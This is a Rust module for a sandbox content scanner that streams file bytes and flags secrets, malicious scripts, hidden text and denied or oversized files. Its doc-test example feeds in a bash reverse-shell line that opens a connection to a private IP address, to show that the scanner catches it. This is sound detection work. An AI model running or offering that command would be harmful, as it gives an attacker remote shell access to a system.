//! What files hold: secrets, malicious scripts, hidden text, and types that their names deny.
//!
//! The scanner gets names and bytes, and reads nothing itself. Bytes may come in chunks of any size:
//! a rule looks at a bounded piece around one of its words ([`window`]), and a block is looked at
//! only when that much has come, so the findings do not depend on the chunks.
//!
//! ```text
//! bytes -> first 8 KiB: type, encoding, nature -> UTF-8 -> blocks -> automaton -> test of the rule
//! ```

mod decode;
mod evidence;
mod nature;
mod rules;
mod token;
mod window;

use std::{collections::BTreeMap, path::Path};

use sandbox_types::{ContentFinding, RiskLevel};

pub use rules::{ContentRule, LooksIn, content_rules, content_words};

use decode::Decoder;
use nature::{Facts, HEAD_BYTES, Nature};
use rules::{
    Match, When, Words,
    files::{DENIED_EXTENSION, SATURATED, TOO_LARGE},
    rule,
};
use window::{AHEAD, BACK, Window};

/// So much is looked at in one go; memory is bounded by twice this.
const BLOCK_BYTES: usize = 128 * 1024;
/// The most findings of one file; more are counted.
const FINDINGS_MAX: usize = 100;
/// So often a rule's test may run in a file, and once more for each 64 bytes: a file that is made of
/// a rule's words must not stop the scan.
const TESTS_MAX: u64 = 20_000;
const BYTES_PER_TEST: u64 = 64;

/// What counts as a finding.
#[derive(Clone, Debug)]
pub struct ContentPolicy {
    /// Less severe rules are left out.
    pub least: RiskLevel,
    /// A larger file is a finding.
    pub max_file_bytes: Option<u64>,
    /// Extensions that are findings, with or without the dot.
    pub deny_extensions: Vec<String>,
}

impl ContentPolicy {
    /// Returns the policy that finds everything from `least` on, and denies no file as such.
    pub const fn from(least: RiskLevel) -> Self {
        Self {
            least,
            max_file_bytes: None,
            deny_extensions: Vec::new(),
        }
    }
}

/// Scans files for what they should not hold.
///
/// ```
/// use sandbox_safety::{ContentPolicy, ContentScanner};
/// use sandbox_types::RiskLevel;
///
/// let scanner = ContentScanner::new(ContentPolicy::from(RiskLevel::Medium));
/// let scanned = scanner.scan("run.sh", b"cd /tmp\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n");
/// assert_eq!(scanned.findings[0].rule, "script.reverse-shell");
/// assert_eq!(scanned.findings[0].line, 2);
/// ```
#[derive(Clone, Debug)]
pub struct ContentScanner {
    policy: ContentPolicy,
    expected_bytes: u64,
    block: usize,
}

impl ContentScanner {
    /// Returns a scanner; what it searches with is built when the first text comes.
    pub const fn new(policy: ContentPolicy) -> Self {
        Self {
            policy,
            expected_bytes: u64::MAX,
            block: BLOCK_BYTES,
        }
    }

    /// Says how many bytes will be scanned in all: for little, less is prepared. The findings are
    /// the same.
    #[must_use]
    pub const fn expecting(mut self, bytes: u64) -> Self {
        self.expected_bytes = bytes;
        self
    }

    /// Scans a whole file.
    pub fn scan(&self, path: impl AsRef<Path>, bytes: &[u8]) -> Scanned {
        let mut scan = self.begin(path.as_ref(), None);
        scan.feed(bytes);
        scan.finish()
    }

    /// Begins a file whose bytes come in chunks. `size` is what the file system says, for a file that
    /// may not be fed to its end.
    pub fn begin<'a>(&'a self, path: &'a Path, size: Option<u64>) -> FileScan<'a> {
        FileScan {
            scanner: self,
            path,
            size,
            bytes: 0,
            stage: Stage::Head(Vec::new()),
            found: Found {
                path,
                least: self.policy.least,
                scanned: Scanned::default(),
                last_lines: BTreeMap::new(),
                tests: BTreeMap::new(),
            },
        }
    }
}

/// What was found in one file.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub struct Scanned {
    /// In the order of the file.
    pub findings: Vec<ContentFinding>,
    /// How many more there are.
    pub more: u64,
}

/// A file that is being scanned.
#[derive(Debug)]
pub struct FileScan<'a> {
    scanner: &'a ContentScanner,
    path: &'a Path,
    size: Option<u64>,
    bytes: u64,
    stage: Stage,
    found: Found<'a>,
}

#[derive(Debug)]
enum Stage {
    /// The first bytes are still coming.
    Head(Vec<u8>),
    Body(Body),
}

impl FileScan<'_> {
    /// Takes the next bytes.
    pub fn feed(&mut self, bytes: &[u8]) {
        self.bytes += bytes.len() as u64;
        let rest = match &mut self.stage {
            Stage::Head(head) => {
                let wanted = bytes.len().min(HEAD_BYTES - head.len());
                head.extend_from_slice(&bytes[..wanted]);
                if head.len() < HEAD_BYTES {
                    return;
                }
                self.end_head();
                &bytes[wanted..]
            }
            Stage::Body(_) => bytes,
        };
        // A large chunk is taken in pieces, so that no more than a block or two is held.
        for piece in rest.chunks(self.scanner.block.max(1)) {
            self.advance(piece);
        }
    }

    /// Ends the file, and returns what was found.
    pub fn finish(mut self) -> Scanned {
        if matches!(self.stage, Stage::Head(_)) {
            self.end_head();
        }
        if let Stage::Body(body) = &mut self.stage {
            body.search(body.text.len(), &mut self.found);
        }
        let size = self.size.unwrap_or(0).max(self.bytes);
        if let Some(max) = self.scanner.policy.max_file_bytes.filter(|max| size > *max) {
            self.found
                .about_file(TOO_LARGE, &format!("{size} bytes, allowed are {max}"));
        }
        self.found.scanned
    }

    fn advance(&mut self, piece: &[u8]) {
        let Stage::Body(body) = &mut self.stage else {
            return;
        };
        body.decoder.decode(piece, &mut body.text);
        while body.text.len() >= body.done + self.scanner.block + AHEAD {
            body.search(body.done + self.scanner.block, &mut self.found);
            body.forget();
        }
    }

    fn end_head(&mut self) {
        let Stage::Head(head) = &mut self.stage else {
            return;
        };
        let head = std::mem::take(head);
        let (facts, encoding) = Facts::of(self.path, &head);
        self.examine(&facts);
        let words = Words::for_bytes(self.scanner.expected_bytes);
        self.stage = Stage::Body(Body {
            nature: facts.nature,
            words: words.filter(|_| !head.is_empty()),
            decoder: Decoder::new(encoding),
            text: Vec::new(),
            done: 0,
            dropped: 0,
            line_start: 0,
            cursor: 0,
            line: 1,
        });
        for piece in head.chunks(self.scanner.block.max(1)) {
            self.advance(piece);
        }
    }

    /// Runs the rules that need no text.
    fn examine(&mut self, facts: &Facts) {
        for rule in content_rules() {
            if let When::File(test) = rule.when
                && let Some(evidence) = test(facts)
            {
                self.found.about_file(rule.id, &evidence);
            }
        }
        let denied = |it: &String| {
            it.trim_start_matches('.')
                .eq_ignore_ascii_case(&facts.extension)
        };
        if !facts.extension.is_empty() && self.scanner.policy.deny_extensions.iter().any(denied) {
            self.found.about_file(DENIED_EXTENSION, &facts.name);
        }
    }
}

/// The text of a file as far as it is held, and where it stands in the file.
#[derive(Debug)]
struct Body {
    nature: Nature,
    /// `None` for an empty file, so that nothing is built for it.
    words: Option<&'static Words>,
    decoder: Decoder,
    text: Vec<u8>,
    /// Words that end up to here were looked at.
    done: usize,
    /// Bytes of the file's text before what is held.
    dropped: u64,
    /// Where in the file the line begins that the first held byte is on.
    line_start: u64,
    /// A place in the held text, and the line that it is on.
    cursor: usize,
    line: u64,
}

impl Body {
    /// Looks at the words that end in the held text up to `end`.
    fn search(&mut self, end: usize, found: &mut Found<'_>) {
        let Some(words) = self.words else {
            return;
        };
        let text = std::mem::take(&mut self.text);
        // A word may have begun in the block before.
        let from = self.done.saturating_sub(words.longest.saturating_sub(1));
        for hit in words.automaton.find_overlapping_iter(&text[from..end]) {
            let word = from + hit.start()..from + hit.end();
            let Some((number, rule)) = words.rules.get(hit.pattern().as_usize()) else {
                continue;
            };
            if word.end <= self.done || rule.severity < found.least || !rule.looks_into(self.nature)
            {
                continue;
            }
            let at = self.dropped + word.start as u64;
            let shown = match rule.when {
                When::Token(..) => token(rule, &text, word),
                When::Around(_, test) if found.may_test(*number, at) => {
                    let (window, offset) = Window::around(&text, word);
                    test(&window).map(|it| it.moved(offset))
                }
                When::Around(..) => {
                    let line = self.line_at(&text, word.start);
                    found.saturated(rule, line);
                    None
                }
                When::File(_) | When::Policy => None,
            };
            if let Some(shown) = shown {
                let start = shown.start();
                let line = self.line_at(&text, start);
                if found.is_new(*number, line) {
                    let column = self.column_at(&text, start);
                    found.add(rule, (line, column), shown.evidence(&text));
                }
            }
        }
        self.text = text;
        self.done = end;
    }

    /// Drops what no rule can look at any more.
    fn forget(&mut self) {
        let keep = self
            .done
            .saturating_sub(BACK + self.words.map_or(0, |it| it.longest));
        let text = std::mem::take(&mut self.text);
        self.line_at(&text, keep);
        if let Some(last) = text[..keep].iter().rposition(|it| *it == b'\n') {
            self.line_start = self.dropped + last as u64 + 1;
        }
        self.text = text;
        self.text.drain(..keep);
        self.dropped += keep as u64;
        self.done -= keep;
        self.cursor = 0;
    }

    /// Returns the line of a place in the held text.
    fn line_at(&mut self, text: &[u8], place: usize) -> u64 {
        let lines = |piece: &[u8]| piece.iter().map(|it| u64::from(*it == b'\n')).sum::<u64>();
        if place >= self.cursor {
            self.line += lines(&text[self.cursor..place]);
        } else {
            self.line -= lines(&text[place..self.cursor]);
        }
        self.cursor = place;
        self.line
    }

    fn column_at(&self, text: &[u8], place: usize) -> u64 {
        match text[..place].iter().rposition(|it| *it == b'\n') {
            Some(end) => (place - end) as u64,
            None => self.dropped + place as u64 - self.line_start + 1,
        }
    }
}

/// Tests a token that may begin at `word`.
fn token(rule: &ContentRule, text: &[u8], word: std::ops::Range<usize>) -> Option<Match> {
    let When::Token(beginnings, parts, test) = rule.when else {
        return None;
    };
    let exact = beginnings
        .iter()
        .any(|it| it.as_bytes() == &text[word.clone()]);
    let inside = text[..word.start]
        .last()
        .is_some_and(|it| it.is_ascii_alphanumeric() || *it == b'_');
    if !exact || inside {
        return None;
    }
    let rest = &text[word.end..text.len().min(word.end + AHEAD)];
    let length = token::measure(parts, rest)?;
    let whole = word.start..word.end + length;
    test(&text[whole.clone()]).then_some(Match::Secret(word, whole))
}

impl Match {
    fn start(&self) -> usize {
        match self {
            Self::Shown(range) => range.start,
            Self::Secret(_, secret) => secret.start,
        }
    }

    fn moved(self, by: usize) -> Self {
        let moved = |range: std::ops::Range<usize>| range.start + by..range.end + by;
        match self {
            Self::Shown(range) => Self::Shown(moved(range)),
            Self::Secret(shown, secret) => Self::Secret(moved(shown), moved(secret)),
        }
    }

    fn evidence(&self, text: &[u8]) -> String {
        match self {
            Self::Shown(range) => evidence::line(&text[range.clone()]),
            Self::Secret(shown, secret) => {
                evidence::redacted(&text[shown.clone()], &text[secret.clone()])
            }
        }
    }
}

/// The findings of one file.
#[derive(Debug)]
struct Found<'a> {
    path: &'a Path,
    least: RiskLevel,
    scanned: Scanned,
    /// The line of the last finding of each rule: one finding for each rule and line.
    last_lines: BTreeMap<usize, u64>,
    /// How often the test of each rule ran.
    tests: BTreeMap<usize, u64>,
}

impl Found<'_> {
    fn may_test(&mut self, rule: usize, at: u64) -> bool {
        let tests = self.tests.entry(rule).or_default();
        *tests += 1;
        *tests <= TESTS_MAX + at / BYTES_PER_TEST
    }

    fn is_new(&mut self, rule: usize, line: u64) -> bool {
        self.last_lines.insert(rule, line) != Some(line)
    }

    fn saturated(&mut self, by: &ContentRule, line: u64) {
        let said = |it: &ContentFinding| it.rule == SATURATED;
        if !self.scanned.findings.iter().any(said)
            && let Some(rule) = rule(SATURATED)
        {
            self.add(rule, (line, 1), by.id.to_owned());
        }
    }

    fn about_file(&mut self, id: &str, evidence: &str) {
        if let Some(rule) = rule(id).filter(|rule| rule.severity >= self.least) {
            self.add(rule, (1, 1), evidence::line(evidence.as_bytes()));
        }
    }

    fn add(&mut self, rule: &ContentRule, (line, column): (u64, u64), evidence: String) {
        if self.scanned.findings.len() >= FINDINGS_MAX {
            self.scanned.more += 1;
            return;
        }
        self.scanned.findings.push(ContentFinding {
            path: self.path.to_owned(),
            line,
            column,
            rule: rule.id.to_owned(),
            severity: rule.severity,
            message: rule.message.to_owned(),
            evidence,
            suggestion: rule.suggestion.to_owned(),
        });
    }
}

#[cfg(test)]
mod tests;
